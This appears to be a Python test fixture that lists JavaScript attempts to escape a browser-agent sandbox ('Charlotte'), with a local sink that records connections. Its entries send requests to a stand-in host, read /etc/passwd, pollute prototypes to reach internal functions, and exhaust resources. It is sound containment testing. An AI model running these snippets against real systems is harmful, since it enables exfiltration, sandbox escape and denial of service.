"""Attempts of programs to leave the page in which `run` executes them, and a sink that sees them.

In the code, ``SINK`` is the host and port of the sink. A program returns a text with ``ESCAPED`` if
it reached something by itself.
"""

import re
import socket
import threading
from collections.abc import Generator
from contextlib import contextmanager, suppress

import attrs

PRELUDE = """
const wait = (ms = 150) => new Promise((resolve) => { setTimeout(resolve, ms); });
const add = (name, properties) => {
  const element = Object.assign(document.createElement(name), properties);
  document.documentElement.append(element);
  return element;
};
const url = 'http://SINK/';
"""


@attrs.frozen
class Escape:
    """An attempt: a program, by a number."""

    number: int
    name: str
    code: str

    def program(self, sink: str) -> str:
        """Return the program, which ends shortly after the attempt."""
        return f"{PRELUDE}{self.code}\nawait wait();\nreturn 'contained';".replace("SINK", sink)


def parse_attempts(table: str, first: int) -> tuple[Escape, ...]:
    """Return the attempts of lines `name: code`; the code continues in indented lines."""
    rows = re.split(r"\n(?! )", table.strip())
    parts = (row.partition(":") for row in rows)
    return tuple(Escape(number, name, code) for number, (name, _, code) in enumerate(parts, first))


REQUESTS = parse_attempts(
    """
fetch: await fetch(url).then(() => { throw 'ESCAPED'; }, () => 0);
fetch that outlives the page:
  fetch(url, {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}).catch(() => 0);
XMLHttpRequest: const one = new XMLHttpRequest(); one.open('GET', url, false);
  try { one.send(); return 'ESCAPED'; } catch {}
WebSocket: try { new WebSocket('ws://SINK/'); } catch {}
WebSocketStream: try { new WebSocketStream('ws://SINK/'); } catch {}
EventSource: try { new EventSource(url); } catch {}
sendBeacon: navigator.sendBeacon(url, 'x');
WebRTC: const one = new RTCPeerConnection({iceServers: [{urls: 'stun:SINK'}]});
  one.createDataChannel('x'); await one.setLocalDescription(await one.createOffer());
WebRTC of a frame: const one = add('iframe', {});
  const two = new one.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:SINK'}]});
  two.createDataChannel('x'); await two.setLocalDescription(await two.createOffer());
WebTransport: try { new WebTransport('https://SINK/'); } catch {}
image: add('img', {src: url}); new Image().src = url;
script: add('script', {src: url});
inline script: add('script', {text: `fetch('${url}')`});
event handler: add('img', {src: 'x'}).setAttribute('onerror', `fetch('${url}')`);
style sheet: add('link', {rel: 'stylesheet', href: url});
import in a style: add('style', {textContent: `@import '${url}';`});
image in a style: add('p', {textContent: 'x'}).style.backgroundImage = `url(${url})`;
font: await new FontFace('x', `url(${url})`).load().catch(() => 0);
frame: add('iframe', {src: url});
frame with markup: add('iframe', {srcdoc: `<script>fetch('${url}')</script>`});
realm of a frame: await add('iframe', {}).contentWindow.fetch(url); return 'ESCAPED';
object: add('object', {data: url, type: 'text/html'});
embed: add('embed', {src: url, type: 'text/html'});
media: add('video', {src: url, poster: url, autoplay: true}); new Audio(url).play();
SVG: add('div', {innerHTML: `<svg><image href='${url}'/><use href='${url}#x'/></svg>`});
prefetch: add('link', {rel: 'prefetch', href: url});
preload: add('link', {rel: 'preload', as: 'fetch', href: url});
module preload: add('link', {rel: 'modulepreload', href: url});
preconnect: add('link', {rel: 'preconnect', href: url});
name lookup: add('link', {rel: 'dns-prefetch', href: '//SINK/'});
speculation rules: add('script', {type: 'speculationrules',
  text: JSON.stringify({prerender: [{source: 'list', urls: [url]}]})});
manifest and icon: add('link', {rel: 'manifest', href: url}); add('link', {rel: 'icon', href: url});
form: add('form', {action: url}).submit();
form in a new window: add('form', {action: url, method: 'POST', target: '_blank'}).submit();
ping: add('a', {href: '#x', ping: url}).click();
location: location.href = url;
refresh: add('meta', {httpEquiv: 'refresh', content: `0;url=${url}`});
another window: if (window.open(url)) return 'ESCAPED';
another window without opener: window.open(url, '_blank', 'noopener');
realm of another window: await window.open('about:blank').fetch(url); return 'ESCAPED';
link to another window: add('a', {href: url, target: '_blank'}).click();
download: add('a', {href: url, download: 'x'}).click();
worker: new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`]))); new Worker(url);
worker with a data URL: new Worker(`data:text/javascript,fetch('${url}')`);
shared worker: new SharedWorker(`data:text/javascript,fetch('${url}')`);
service worker: await navigator.serviceWorker.register(url);
worklet: await CSS.paintWorklet.addModule(url); return 'ESCAPED';
import: await import(url); return 'ESCAPED';
import of text: await import(`data:text/javascript,fetch('${url}')`);
""",
    1,
)
"""Attempts to send something to another host."""

PLACES = parse_attempts(
    """
file: await fetch('file:///etc/passwd'); return 'ESCAPED';
file as the location: location.href = 'file:///etc/passwd';
page of the browser: location.href = 'chrome://version/';
data as the location: location.href = 'data:text/html,<script>1</script>';
blob as the location: location.href = URL.createObjectURL(new Blob(['x'], {type: 'text/html'}));
script as the location: location.href = `javascript:fetch('${url}')`;
channel to pages: const one = new BroadcastChannel('pages'); const got = [];
  one.onmessage = (event) => got.push(event.data); one.postMessage('ping'); await wait(300);
  if (got.length) return 'ESCAPED';
opener and parent: if (window.opener || parent !== window || top !== window || frames.length)
  return 'ESCAPED';
cookies: if (document.cookie !== undefined) return 'ESCAPED';
local storage: localStorage.setItem('x', 'y'); return 'ESCAPED';
session storage: sessionStorage.setItem('x', 'y'); return 'ESCAPED';
database: indexedDB.open('x'); return 'ESCAPED';
caches: await caches.open('x'); return 'ESCAPED';
file system: await navigator.storage.getDirectory(); return 'ESCAPED';
clipboard: await navigator.clipboard.writeText('x'); return 'ESCAPED';
locks: await navigator.locks.request('x', () => 0); return 'ESCAPED';
position: await new Promise((done, no) => navigator.geolocation.getCurrentPosition(done, no));
  return 'ESCAPED';
saved file: add('a', {href: URL.createObjectURL(new Blob(['x'])), download: 'x.txt'}).click();
dialogs: alert('x'); print(); if (confirm('x') || prompt('x') !== null) return 'ESCAPED';
unknown tab: await tab('tab-999').observe(); return 'ESCAPED';
tab of the owner: await tab('owner-1').observe(); return 'ESCAPED';
tool that does not exist: await charlotte.constructor({}); return 'ESCAPED';
run in run: await charlotte.run({code: '1'}); return 'ESCAPED';
run in a batch in run:
  const one = await charlotte.batch({steps: [{tool: 'run', arguments: {code: '1'}}]});
  if (!one.results[0].error) return 'ESCAPED';
function of Charlotte in the page:
  if (Reflect.ownKeys(globalThis).some((name) => /charlotte|binding/i.test(String(name))))
  return 'ESCAPED';
code from text: tab.observe.constructor('return 1')(); return 'ESCAPED';
frames of the stack:
  Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getFunction());
  const one = await tab('tab-999').observe().catch((error) => error.stack);
  if (one.some((each) => typeof each === 'function' && /settle/.test(each))) return 'ESCAPED';
callers: function spy() { return spy.caller; }
  if (/settle/.test(String(await tab({toString: spy}).observe().catch(() => 0)))) return 'ESCAPED';
other prototypes: const got = []; const spy = function (...given) { got.push(this, given); };
  for (const name of ['value', 'error', 'call', 'end', 'text', 'next', '0'])
  Object.defineProperty(Object.prototype, name, {set: spy, get: spy, configurable: true});
  JSON.stringify = JSON.parse = Map.prototype.set = WeakMap.prototype.set = spy;
  String.prototype.slice = Function.prototype.call = Function.prototype.bind = spy;
  await tab('tab-999').observe().catch(() => 0); await wait();
  if (got.flat(9).some((each) => each?.settle)) { throw 'ESCAPED'; }
another promise: const kept = Promise; Promise = class {};
  await tab('tab-999').observe().catch(() => 0); Promise = kept;
""",
    len(REQUESTS) + 1,
)
"""Attempts to reach files, storage, pages, other sessions, or the part that faces Charlotte."""

LOADS = parse_attempts(
    """
endless loop: for (;;);
endless microtasks: const one = () => Promise.resolve().then(one); await one();
heap: const one = []; for (;;) one.push('x'.repeat(1000) + one.length);
buffers: const one = []; for (;;) one.push(new Uint8Array(3e6).fill(1));
elements: for (;;) add('p', {textContent: 'x'.repeat(100)});
calls: await Promise.all(Array.from({length: 5000}, () => charlotte.tabs({})));return 'ESCAPED';
long value: return 'x'.repeat(3e8);
long error: throw 'x'.repeat(3e8);
long arguments: await tab.find({text: 'x'.repeat(3e8)}); return 'ESCAPED';
long name: await tab['x'.repeat(3e7)]({}); return 'ESCAPED';
long line: console.log('x'.repeat(3e8)); return 1;
endless lines: for (;;) console.log('x'.repeat(900));
recursion: const one = () => one() + 1; one();
deep value: let one = {}; for (let i = 0; i < 1e5; i += 1) one = {one}; return one;
endless value: const one = {}; one.one = one; return one;
end of the page: window.close(); window.stop();
pause: debugger;
long address: location.href = 'http://SINK/' + 'x'.repeat(3e8);
long state: history.pushState(0, '', '?' + 'x'.repeat(1e6)); return 1;
long promise: Promise.prototype.then = (done) => done('x'.repeat(3e8));
long iteration: Array.prototype[Symbol.iterator] = () => { throw 'x'.repeat(3e8); };
  await tab('tab-999').observe().catch(() => 0);
windows: for (let i = 0; i < 1000; i += 1) window.open('about:blank');
frames: for (let i = 0; i < 50; i += 1) add('iframe', {src: url});
timers: for (let i = 0; i < 1e6; i += 1) setTimeout(() => 0);
dialogs without end: for (;;) alert('x');
""",
    PLACES[-1].number + 1,
)
"""Attempts to take the time, the memory or the connection of others."""


@attrs.define(eq=False)
class Sink:
    """A server that sees connections and datagrams, and answers nothing."""

    host: str
    seen: list[str] = attrs.field(factory=list[str])


@contextmanager
def open_sink() -> Generator[Sink]:
    """Listen at one TCP and UDP port during the block."""
    with (
        socket.create_server(("127.0.0.1", 0)) as stream,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        address = stream.getsockname()
        datagrams.bind(address)
        sink = Sink(f"127.0.0.1:{address[1]}")

        def accept() -> None:
            with suppress(OSError):
                while True:
                    connection, _ = stream.accept()
                    sink.seen.append("connection")
                    connection.close()

        def receive() -> None:
            with suppress(OSError):
                while datagrams.recvfrom(65_536):
                    sink.seen.append("datagram")

        threads = [threading.Thread(target=work, daemon=True) for work in (accept, receive)]
        for thread in threads:
            thread.start()
        try:
            yield sink
        finally:
            for each in (stream, datagrams):
                with suppress(OSError):
                    each.shutdown(socket.SHUT_RDWR)
